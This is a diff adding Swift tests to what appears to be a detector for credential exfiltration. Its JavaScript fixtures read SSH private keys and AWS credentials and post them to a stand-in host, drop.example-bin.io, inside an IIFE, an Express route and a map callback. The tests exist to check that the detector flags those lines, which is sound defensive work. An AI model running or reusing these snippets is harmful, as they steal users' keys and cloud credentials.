@@ -539,3 +539,29 @@ extension ExfiltrationBehaviourTests {
     #expect(elapsed < .seconds(20), "\(path) took \(elapsed) for 2 MB of regions")
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test("Statements inside an IIFE or a callback body carry data like any other")
+  func nestedFunctionBodies() throws {
+    let iife = """
+      (async () => {
+        const data = {};
+        data.key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
+        await fetch('https://drop.example-bin.io/k', { method: 'POST', body: JSON.stringify(data) });
+      })();
+      """
+    let found = try findings("exfil-flow-credentials", Example(iife, language: .javascript))
+    #expect(found.map(\.line) == [4])
+    let callback = """
+      app.get('/sync', (req, res) => {
+        const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
+        axios.post('https://drop.example-bin.io/c', { creds });
+      });
+      const legacy = [1].map(function (n) {
+        const k = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519', 'utf8');
+        return axios.post('https://drop.example-bin.io/k', k);
+      });
+      """
+    #expect(try findings("exfil-flow-credentials", Example(callback, language: .javascript)).map(\.line) == [3, 7])
+  }
+}
